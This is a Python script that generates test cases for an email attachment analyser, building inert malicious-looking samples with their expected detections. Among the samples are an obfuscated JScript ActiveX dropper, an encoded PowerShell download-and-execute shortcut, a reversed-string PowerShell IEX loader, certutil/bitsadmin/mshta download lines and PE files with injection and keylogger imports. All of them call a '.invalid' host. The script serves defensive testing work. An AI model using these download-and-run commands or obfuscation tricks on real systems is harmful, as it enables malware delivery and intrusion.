#!/usr/bin/env python3
"""Writes the attachment analyser's case files: messages carrying crafted, inert samples (the
"programs" are valid PE/ELF files whose code is a single `ret`; the scripts point at .invalid
hosts). Builders are in samples.py. Needs: the `zip` command (ZipCrypto), bsdtar (checks the
hand-made RAR files), mkfs.fat and mcopy (the FAT image), pip's pycdlib and py7zr, and cargo
(the MSI comes from `examples/make_msi.rs`). Run from the repository root:

    python3 crates/analyzers/cases/generate.py
"""

import base64
import gzip
import hashlib
import io
import os
import pathlib
import subprocess
import tempfile
import sys
import tarfile
import zipfile

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
import samples  # noqa: E402

# A Windows program that imports ExitProcess and whose code is `ret`.
PE = samples.pe()
SCRIPT = b'WScript.Echo("inert test fixture");\r\n'


def zip_bytes(members, compression=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


def encrypted_zip(members, password):
    with tempfile.TemporaryDirectory() as d:
        for name, data in members:
            p = pathlib.Path(d, name)
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_bytes(data)
        out = pathlib.Path(d, "out.zip")
        subprocess.run(
            ["zip", "-q", "-P", password, "-r", str(out)] + [m[0] for m in members],
            cwd=d,
            check=True,
        )
        return out.read_bytes()


def message(subject, body, attachments):
    parts = [
        "From: Accounts <accounts@vendor.example>",
        "To: Bob <bob@corp.example>",
        f"Subject: {subject}",
        "Date: Mon, 23 Nov 2026 01:00:00 +0000",
        "Message-ID: <a1@vendor.example>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="B"',
        "",
        "--B",
        "Content-Type: text/plain; charset=utf-8",
        "",
        body,
    ]
    for name, ctype, data in attachments:
        encoded = base64.encodebytes(data).decode().strip()
        parts += [
            "--B",
            f'Content-Type: {ctype}; name="{name}"',
            "Content-Transfer-Encoding: base64",
            f'Content-Disposition: attachment; filename="{name}"',
            "",
            encoded,
        ]
    parts += ["--B--", ""]
    return "\n".join(parts)


def write(name, directives, msg):
    (HERE / f"{name}.case").write_text(directives.strip() + "\n\n" + msg)


ZIP = "application/zip"

write("zip_with_disguised_executable", """
# invoice.zip > docs/invoice.pdf.exe, and a "photo" that is a program.
expect: ARCHIVE_EXECUTABLE at attachment invoice.zip > docs/invoice.pdf.exe
expect: ARCHIVE_EXECUTABLE at attachment invoice.zip > photo.jpg
expect: FILETYPE_DISGUISED_EXECUTABLE at attachment invoice.zip > photo.jpg
expect-not: ARCHIVE_ENCRYPTED ARCHIVE_BOMB ARCHIVE_DAMAGED
""", message("Invoice 4471", "Please find the invoice attached.",
             [("invoice.zip", ZIP, zip_bytes([("docs/invoice.pdf.exe", PE), ("photo.jpg", PE)]))]))

inner = [("payload.js", SCRIPT)]
write("encrypted_zip_password_in_body", """
# Encrypted so a gateway cannot look inside, the password for the victim in the body.
expect: ARCHIVE_ENCRYPTED at attachment scan.zip
expect: ARCHIVE_PASSWORD_IN_MESSAGE at attachment scan.zip
expect: ARCHIVE_EXECUTABLE at attachment scan.zip > payload.js
expect-not: ARCHIVE_UNOPENED
""", message("Scanned documents", "The documents are protected.\nThe archive password is Q7x9p4 (case sensitive).",
             [("scan.zip", ZIP, encrypted_zip(inner, "Q7x9p4"))]))

write("encrypted_zip_password_korean", """
# 암호 in Korean: the same trick.
expect: ARCHIVE_PASSWORD_IN_MESSAGE at attachment 견적서.zip
expect: ARCHIVE_EXECUTABLE at attachment 견적서.zip > payload.js
""", message("견적서 송부", "견적서를 보내드립니다.\n압축 암호: 8812",
             [("견적서.zip", ZIP, encrypted_zip(inner, "8812"))]))

write("encrypted_zip_unopened", """
# No password anywhere: the content stays unknown, but the member's name is visible.
expect: ARCHIVE_ENCRYPTED
expect: ARCHIVE_UNOPENED at attachment scan.zip > payload.js
expect: ARCHIVE_EXECUTABLE at attachment scan.zip > payload.js
expect-not: ARCHIVE_PASSWORD_IN_MESSAGE
""", message("Scanned documents", "See attachment.",
             [("scan.zip", ZIP, encrypted_zip(inner, "kT8#vv21"))]))

write("encrypted_zip_configured_password", """
# Opened with a configured password ("infected", the malware-sharing convention).
expect: ARCHIVE_ENCRYPTED
expect: ARCHIVE_EXECUTABLE at attachment sample.zip > payload.js
expect-not: ARCHIVE_PASSWORD_IN_MESSAGE ARCHIVE_UNOPENED
""", message("Sample", "Sample attached.",
             [("sample.zip", ZIP, encrypted_zip(inner, "infected"))]))

write("zip_bomb", """
# 20 MiB of zeros in a few kilobytes.
expect: ARCHIVE_BOMB at attachment report.zip > report.txt
expect-risk: medium
""", message("Report", "Report attached.",
             [("report.zip", ZIP, zip_bytes([("report.txt", bytes(20 << 20))]))]))

nested = zip_bytes([("payload.js", SCRIPT)])
for level in range(17):
    nested = zip_bytes([(f"level{level}.zip", nested)])
write("nested_zip_too_deep", """
# Archives nested eighteen deep: the walk stops at the limit (16) and says so.
expect: ARCHIVE_TOO_DEEP
expect-risk: medium
expect-not: ARCHIVE_EXECUTABLE
""", message("Files", "Files attached.", [("files.zip", ZIP, nested)]))

write("damaged_zip", """
expect: ARCHIVE_DAMAGED at attachment broken.zip
""", message("Files", "Files attached.", [("broken.zip", ZIP, b"PK\x03\x04" + os.urandom(0) + b"\x14\x00not really a zip")]))

known = b"This stands for a file the intelligence feed knows as malicious.\n"
(HERE / "known-bad.txt").write_text(
    "# Test list for the known_bad_hash case (sha256, then a name).\n"
    f"{hashlib.sha256(known).hexdigest()} Test.KnownBad\n"
)
write("known_bad_hash", """
expect: HASH_KNOWN_BAD at attachment invoice.zip > notes.txt
config: [analyzers.attachments]
config: known_bad_hashes = "../analyzers/cases/known-bad.txt"
""", message("Invoice", "Invoice attached.",
             [("invoice.zip", ZIP, zip_bytes([("notes.txt", known)]))]))

write("member_limit", """
# A budget reached: the rest is not analysed, and that is said.
expect: ANALYZER_LIMIT
config: [analyzers.attachments]
config: max_members = 2
""", message("Files", "Files attached.",
             [("many.zip", ZIP, zip_bytes([(f"f{i}.txt", b"x") for i in range(5)]))]))

write("gzip_disguised_executable", """
expect: FILETYPE_DISGUISED_EXECUTABLE at attachment report.pdf.gz > report.pdf
expect: ARCHIVE_EXECUTABLE at attachment report.pdf.gz > report.pdf
""", message("Report", "Report attached.",
             [("report.pdf.gz", "application/gzip", gzip.compress(PE))]))

write("declared_image_is_archive", """
# Declared a JPEG, the bytes are a zip holding a script.
expect: FILETYPE_DECLARED_MISMATCH at attachment holiday.jpg
expect: ARCHIVE_EXECUTABLE at attachment holiday.jpg > run.js
""", message("Photos", "Photos from the trip.",
             [("holiday.jpg", "image/jpeg", zip_bytes([("run.js", SCRIPT)]))]))

write("declared_octet_stream_zip", """
# A zip sent as application/octet-stream or application/zip is declared honestly enough.
expect-not: FILETYPE_DECLARED_MISMATCH
""", message("Files", "Files attached.",
             [("files.bin", "application/octet-stream", zip_bytes([("a.txt", b"hello")])),
              ("files.zip", ZIP, zip_bytes([("b.txt", b"hello")]))]))

write("clean_zip", """
# Ordinary documents in a zip: nothing to say.
expect-not: ARCHIVE_EXECUTABLE ARCHIVE_ENCRYPTED ARCHIVE_BOMB ARCHIVE_TOO_DEEP ARCHIVE_DAMAGED FILETYPE_DISGUISED_EXECUTABLE HASH_KNOWN_BAD ANALYZER_LIMIT ARCHIVE_UNOPENED
""", message("Minutes", "Minutes attached.",
             [("minutes.zip", ZIP, zip_bytes([("minutes.pdf", b"%PDF-1.4\n% inert\n"), ("notes.txt", b"Agenda: budget.\n")]))]))


# --- Issue 6, part 2: every archive format, programs, shortcuts, installers, scripts ---------

def tar_bytes(members, mode="w"):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1790000000
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def bsdtar_check(data, names):
    """The hand-made RAR files must list the same way in libarchive."""
    with tempfile.NamedTemporaryFile(suffix=".rar") as f:
        f.write(data)
        f.flush()
        listed = subprocess.run(["bsdtar", "-tf", f.name], capture_output=True, text=True, check=True).stdout.split()
    assert listed == names, (listed, names)


INJECTOR = samples.pe(samples.INJECTOR_IMPORTS)
DOWNLOADER = samples.pe(samples.DOWNLOADER_IMPORTS, strings=b"Software\\Microsoft\\Windows\\CurrentVersion\\Run\0")
URL = "http://invoice-cdn.invalid/update/stage2.bin"

write("zip_invoice_pdf_exe_injector", """
# The issue's first sample: invoice.zip holding invoice.pdf.exe, a tiny PE with injection imports.
expect: ARCHIVE_EXECUTABLE at attachment invoice.zip > invoice.pdf.exe
expect: PE_INJECTION_IMPORTS at attachment invoice.zip > invoice.pdf.exe
expect: PE_UNSIGNED at attachment invoice.zip > invoice.pdf.exe
expect: ATTACH_DOUBLE_EXTENSION at attachment invoice.zip > invoice.pdf.exe
expect-not: PE_MALFORMED PE_PACKED FILETYPE_DISGUISED_EXECUTABLE
expect-risk: high
""", message("Invoice 4471", "Please find the invoice attached.",
             [("invoice.zip", ZIP, zip_bytes([("invoice.pdf.exe", INJECTOR)]))]))

write("pe_downloader_persistence", """
# URLDownloadToFile with WinExec, and a Run key written with... no RegSetValueEx: not persistence.
expect: PE_DOWNLOADER_IMPORTS at attachment update.zip > update.exe
expect-not: PE_PERSISTENCE PE_INJECTION_IMPORTS
""", message("Update", "Run the update.",
             [("update.zip", ZIP, zip_bytes([("update.exe", DOWNLOADER)]))]))

write("pe_persistence_keylogger", """
expect: PE_PERSISTENCE at attachment tool.zip > tool.exe
expect: PE_KEYLOGGER_IMPORTS at attachment tool.zip > tool.exe
""", message("Tool", "Tool attached.",
             [("tool.zip", ZIP, zip_bytes([("tool.exe", samples.pe(
                 (("advapi32.dll", ["RegSetValueExW", "CreateServiceW"]),
                  ("user32.dll", ["SetWindowsHookExW", "GetAsyncKeyState"])),
                 strings="Software\\Microsoft\\Windows\\CurrentVersion\\Run".encode("utf-16-le")))]))]))

write("pe_packed", """
# UPX section names and a code section of random bytes (entropy near 8).
expect: PE_PACKED at attachment setup.zip > setup.exe
""", message("Setup", "Setup attached.",
             [("setup.zip", ZIP, zip_bytes([("setup.exe", samples.pe(
                 (("kernel32.dll", ["LoadLibraryA", "GetProcAddress", "ExitProcess"]),),
                 sections=[(b"UPX0", 0xE0000080, b""), (b"UPX1", 0xE0000040, samples.high_entropy(16384, 1))]))]))]))

write("pe_dotnet_overlay", """
# A .NET program with 4 KiB appended after its last section.
expect: PE_DOTNET at attachment loader.zip > loader.exe
expect: PE_OVERLAY at attachment loader.zip > loader.exe
""", message("Loader", "Loader attached.",
             [("loader.zip", ZIP, zip_bytes([("loader.exe", samples.pe(dotnet=True, overlay=samples.high_entropy(4096, 2)))]))]))

write("pe_signed_intact", """
# An Authenticode digest that matches the file: no complaint about the signature.
expect-not: PE_SIGNATURE_INVALID PE_UNSIGNED PE_MALFORMED PE_OVERLAY
""", message("Tool", "Signed tool attached.",
             [("signed.zip", ZIP, zip_bytes([("signed.exe", samples.sign(PE))]))]))

write("pe_signed_tampered", """
# The same signature after one byte of code changed.
expect: PE_SIGNATURE_INVALID at attachment signed.zip > signed.exe
expect-not: PE_UNSIGNED
""", message("Tool", "Signed tool attached.",
             [("signed.zip", ZIP, zip_bytes([("signed.exe", samples.sign(PE, tamper=True))]))]))

write("pe_sideloading", """
# A signed-looking program beside a version.dll: the side-loading kit.
expect: PE_SIDELOADING_DLL at attachment viewer.zip > version.dll
""", message("Viewer", "Viewer attached.",
             [("viewer.zip", ZIP, zip_bytes([("viewer.exe", PE), ("version.dll", samples.pe(dll=True))]))]))

write("pe_malformed", """
# MZ and a PE signature, then a section table that points outside the file.
expect: PE_MALFORMED at attachment broken.zip > broken.exe
""", message("Files", "Files attached.",
             [("broken.zip", ZIP, zip_bytes([("broken.exe", PE[:0x1A0])]))]))

write("elf_in_tar_gz", """
# A Linux and a macOS program in a .tar.gz.
expect: EXECUTABLE_UNIX at attachment tools.tar.gz > tools.tar > bin/agent
expect: EXECUTABLE_UNIX at attachment tools.tar.gz > tools.tar > bin/agent-mac
expect: ARCHIVE_EXECUTABLE at attachment tools.tar.gz > tools.tar > bin/agent
expect-not: FILETYPE_DISGUISED_EXECUTABLE
""", message("Tools", "Tools attached.",
             [("tools.tar.gz", "application/gzip", gzip.compress(tar_bytes([("bin/agent", samples.elf()), ("bin/agent-mac", samples.macho())]), mtime=0))]))

write("tar_bz2_and_xz", """
# bzip2 and xz around tar, each holding a program.
expect: ARCHIVE_EXECUTABLE at attachment a.tar.bz2 > a.tar > a/setup.exe
expect: ARCHIVE_EXECUTABLE at attachment b.tar.xz > b.tar > b/setup.exe
""", message("Files", "Files attached.",
             [("a.tar.bz2", "application/x-bzip2", tar_bytes([("a/setup.exe", PE)], "w:bz2")),
              ("b.tar.xz", "application/x-xz", tar_bytes([("b/setup.exe", PE)], "w:xz"))]))

write("sevenz_program", """
expect: ARCHIVE_EXECUTABLE at attachment order.7z > order.exe
expect: PE_INJECTION_IMPORTS at attachment order.7z > order.exe
expect-not: ARCHIVE_ENCRYPTED ARCHIVE_DAMAGED
""", message("Order", "Order attached.",
             [("order.7z", "application/x-7z-compressed", samples.sevenz([("order.exe", INJECTOR)]))]))

write("sevenz_encrypted_password_in_body", """
# AES-encrypted 7z, names encrypted too, the password in the body.
expect: ARCHIVE_ENCRYPTED at attachment order.7z
expect: ARCHIVE_PASSWORD_IN_MESSAGE at attachment order.7z
expect: ARCHIVE_EXECUTABLE at attachment order.7z > order.js
expect-not: ARCHIVE_UNOPENED
""", message("Order", "Password: 7734",
             [("order.7z", "application/x-7z-compressed", samples.sevenz([("order.js", SCRIPT)], password="7734", header_encryption=True))]))

write("sevenz_encrypted_unopened", """
expect: ARCHIVE_ENCRYPTED at attachment order.7z
expect: ARCHIVE_UNOPENED at attachment order.7z > order.js
expect: ARCHIVE_EXECUTABLE at attachment order.7z > order.js
""", message("Order", "See attachment.",
             [("order.7z", "application/x-7z-compressed", samples.sevenz([("order.js", SCRIPT)], password="Zq81!x"))]))

rar_stored = samples.rar5([("docs/invoice.exe", INJECTOR, 0), ("readme.txt", b"hello", 0)])
bsdtar_check(rar_stored, ["docs/invoice.exe", "readme.txt"])
write("rar5_stored_program", """
# A RAR 5 with stored members: unpacked and analysed.
expect: ARCHIVE_EXECUTABLE at attachment invoice.rar > docs/invoice.exe
expect: PE_INJECTION_IMPORTS at attachment invoice.rar > docs/invoice.exe
expect-not: ARCHIVE_LISTED_ONLY ARCHIVE_DAMAGED
""", message("Invoice", "Invoice attached.", [("invoice.rar", "application/vnd.rar", rar_stored)]))

rar_compressed = samples.rar5([("payment.scr", samples.high_entropy(300, 3), 3)])
bsdtar_check(rar_compressed, ["payment.scr"])
write("rar5_compressed_listed", """
# A compressed RAR 5 member: listed, not decoded; its name still gives it away.
expect: ARCHIVE_LISTED_ONLY at attachment payment.rar
expect: ARCHIVE_EXECUTABLE at attachment payment.rar > payment.scr
""", message("Payment", "Payment attached.", [("payment.rar", "application/vnd.rar", rar_compressed)]))

rar_old = samples.rar4([("report.pdf.exe", PE)])
bsdtar_check(rar_old, ["report.pdf.exe"])
write("rar4_stored_program", """
expect: ARCHIVE_EXECUTABLE at attachment report.rar > report.pdf.exe
""", message("Report", "Report attached.", [("report.rar", "application/x-rar-compressed", rar_old)]))

write("cab_program", """
expect: ARCHIVE_EXECUTABLE at attachment update.cab > update.exe
expect-not: ARCHIVE_DAMAGED
""", message("Update", "Update attached.",
             [("update.cab", "application/vnd.ms-cab-compressed", samples.cab([("update.exe", PE), ("notes.txt", b"notes")]))]))

ENCODED = samples.powershell_encoded(f"IEX (New-Object Net.WebClient).DownloadString('{URL}')")
SHORTCUT = samples.lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                       f"-NoProfile -WindowStyle Hidden -enc {ENCODED}",
                       icon=r"C:\Program Files\Microsoft\Edge\Application\msedge.exe")
write("iso_with_lnk_encoded_powershell", """
# The issue's ISO sample: an ISO holding a shortcut that runs powershell -enc.
expect: DISK_IMAGE at attachment Invoice_4471.iso
expect: ARCHIVE_EXECUTABLE at attachment Invoice_4471.iso > Invoice_4471.pdf.lnk
expect: LNK_RUNS_INTERPRETER at attachment Invoice_4471.iso > Invoice_4471.pdf.lnk
expect: LNK_HIDDEN_ARGUMENTS at attachment Invoice_4471.iso > Invoice_4471.pdf.lnk
expect: SCRIPT_ENCODED_COMMAND at attachment Invoice_4471.iso > Invoice_4471.pdf.lnk > command line > -EncodedCommand
expect: SCRIPT_DOWNLOADER at attachment Invoice_4471.iso > Invoice_4471.pdf.lnk > command line > -EncodedCommand
expect-risk: high
""", message("Invoice 4471", "Invoice attached.",
             [("Invoice_4471.iso", "application/octet-stream", samples.iso([("Invoice_4471.pdf.lnk", SHORTCUT)]))]))

write("udf_image_with_lnk", """
# The same shortcut in a UDF image with no ISO 9660 tree.
expect: DISK_IMAGE at attachment scan.img
expect: LNK_RUNS_INTERPRETER at attachment scan.img > scan.pdf.lnk
expect-not: ARCHIVE_DAMAGED
""", message("Scan", "Scan attached.",
             [("scan.img", "application/octet-stream", samples.udf_only([("scan.pdf.lnk", SHORTCUT)]))]))

write("fat_image_carved", """
# A FAT floppy image: its files are carved by signature.
expect: DISK_IMAGE at attachment disk.img
expect: LNK_RUNS_INTERPRETER
""", message("Disk", "Disk attached.",
             [("disk.img", "application/octet-stream", samples.fat_image([("SCAN.LNK", SHORTCUT)]))]))

JS_DROPPER = ("var a=[" + ",".join(str(ord(c)) for c in "MSXML2.XMLHTTP") + "];\n"
              "var n='';for(var i=0;i<a.length;i++){n+=String.fromCharCode(a[i]);}\n"
              "var x=new ActiveXObject(n);x.open('GET','" + URL + "',false);x.send();\n"
              "var s=new ActiveXObject('ADODB.Stream');s.Open();s.Type=1;s.Write(x.responseBody);\n"
              "s.SaveToFile('C:\\\\Users\\\\Public\\\\u.exe',2);\n"
              "var w=new ActiveXObject('W'+'S'+'c'+'r'+'i'+'p'+'t'+'.'+'S'+'h'+'e'+'l'+'l'+'');\n"
              "eval('w.Run(\"C:\\\\\\\\Users\\\\\\\\Public\\\\\\\\u.exe\")');eval(n);\n" + "".join(f"var v{i}=String.fromCharCode({i+65});\n" for i in range(12)))
write("js_obfuscated_downloader", """
# The issue's JS sample: obfuscated, downloads from an unresolvable host and runs it.
expect: ARCHIVE_EXECUTABLE at attachment doc.zip > doc.js
expect: SCRIPT_OBFUSCATED at attachment doc.zip > doc.js
expect: SCRIPT_DOWNLOADER at attachment doc.zip > doc.js
expect: SCRIPT_EXECUTES at attachment doc.zip > doc.js
expect-risk: high
""", message("Document", "Document attached.",
             [("doc.zip", ZIP, zip_bytes([("doc.js", JS_DROPPER.encode())]))]))

write("vbs_certutil_lolbin", """
expect: SCRIPT_LOLBIN at attachment invoice.vbs
expect: SCRIPT_EXECUTES at attachment invoice.vbs
""", message("Invoice", "Invoice attached.",
             [("invoice.vbs", "text/vbscript", b'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "certutil -urlcache -split -f ' + URL.encode() + b' %TEMP%\\\\a.exe", 0\r\n')]))

write("batch_bitsadmin", """
expect: SCRIPT_LOLBIN at attachment setup.zip > setup.cmd
""", message("Setup", "Setup attached.",
             [("setup.zip", ZIP, zip_bytes([("setup.cmd", b"@echo off\r\nbitsadmin /transfer j " + URL.encode() + b" %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n")]))]))

write("hta_mshta", """
expect: SCRIPT_EXECUTES at attachment update.zip > update.hta
expect: SCRIPT_LOLBIN at attachment update.zip > update.hta
""", message("Update", "Update attached.",
             [("update.zip", ZIP, zip_bytes([("update.hta", b'<html><head><hta:application/><script language="VBScript">CreateObject("WScript.Shell").Run "mshta ' + URL.encode() + b'"</script></head></html>')]))]))

write("powershell_script_downloader", """
expect: SCRIPT_DOWNLOADER at attachment fix.zip > fix.ps1
expect: SCRIPT_OBFUSCATED at attachment fix.zip > fix.ps1
""", message("Fix", "Fix attached.",
             [("fix.zip", ZIP, zip_bytes([("fix.ps1", ("$u=('ht'+'tp://invoice-cdn.invalid/a.ps1');$c=(New-Object Net.WebClient).DownloadString($u);" + "I`E`X -join ($c[-1..-($c.Length)])\r\n").encode())]))]))

write("wsf_script", """
expect: SCRIPT_EXECUTES at attachment run.wsf
""", message("Run", "Run attached.",
             [("run.wsf", "application/octet-stream", b'<job><script language="JScript">new ActiveXObject("WScript.Shell").Run("calc");</script></job>')]))

write("chm_with_script", """
expect: CHM_FILE at attachment manual.chm
expect: SCRIPT_EXECUTES at attachment manual.chm > index.htm
expect: SCRIPT_LOLBIN at attachment manual.chm > index.htm
""", message("Manual", "Manual attached.",
             [("manual.chm", "application/vnd.ms-htmlhelp", samples.chm([("/index.htm", b'<html><script>var s=new ActiveXObject("WScript.Shell");s.Run("mshta ' + URL.encode() + b'");</script></html>')]))]))

with tempfile.TemporaryDirectory() as d:
    out = pathlib.Path(d, "setup.msi")
    subprocess.run(["cargo", "run", "-q", "-p", "mailmoat-analyzers", "--example", "make_msi", "--", str(out)], check=True)
    MSI = out.read_bytes()
write("msi_custom_action_script", """
expect: MSI_CUSTOM_ACTION at attachment setup.msi > CustomAction CheckLicense
expect: SCRIPT_EXECUTES at attachment setup.msi > CustomAction CheckLicense
expect: SCRIPT_DOWNLOADER at attachment setup.msi > CustomAction CheckLicense
""", message("Setup", "Setup attached.", [("setup.msi", "application/x-msi", MSI)]))

write("base64_blob_holds_program", """
# A script carrying a program as a base64 literal: the blob is decoded and walked.
expect: SCRIPT_OBFUSCATED at attachment drop.zip > drop.js
expect: PE_INJECTION_IMPORTS at attachment drop.zip > drop.js > base64 blob 1
""", message("Drop", "Drop attached.",
             [("drop.zip", ZIP, zip_bytes([("drop.js", b"var p='" + base64.b64encode(INJECTOR) + b"';\nvar f=new ActiveXObject('Scripting.FileSystemObject');\n")]))]))

write("time_budget", """
# No time at all: the analysis stops at once and says so; the message goes on.
expect: ANALYZER_TIMEOUT
expect-not: ARCHIVE_EXECUTABLE
config: [analyzers.attachments]
config: time_budget_ms = 0
""", message("Files", "Files attached.",
             [("files.zip", ZIP, zip_bytes([("a.exe", PE)]))]))

write("object_size_limit", """
# A member larger than the per-object limit is not unpacked.
expect: ANALYZER_LIMIT at attachment big.zip > big.bin
expect-not: ARCHIVE_BOMB
config: [analyzers.attachments]
config: max_object_bytes = 100000
""", message("Files", "Files attached.",
             [("big.zip", ZIP, zip_bytes([("big.bin", samples.high_entropy(150000, 4))]))]))

write("clean_text_script_and_tar", """
# A harmless script and a tar of documents: nothing beyond the file type.
expect-not: SCRIPT_OBFUSCATED SCRIPT_DOWNLOADER SCRIPT_LOLBIN SCRIPT_ENCODED_COMMAND ARCHIVE_EXECUTABLE ARCHIVE_DAMAGED
""", message("Scripts", "Build helper attached.",
             [("docs.tar", "application/x-tar", tar_bytes([("docs/a.txt", b"hello"), ("docs/b.pdf", b"%PDF-1.4\n")])),
              ("sum.js", "application/javascript", b"var total = 0;\nfor (var i = 0; i < 10; i++) { total += i; }\nWScript.Echo(total);\n")]))

print("cases written to", HERE)
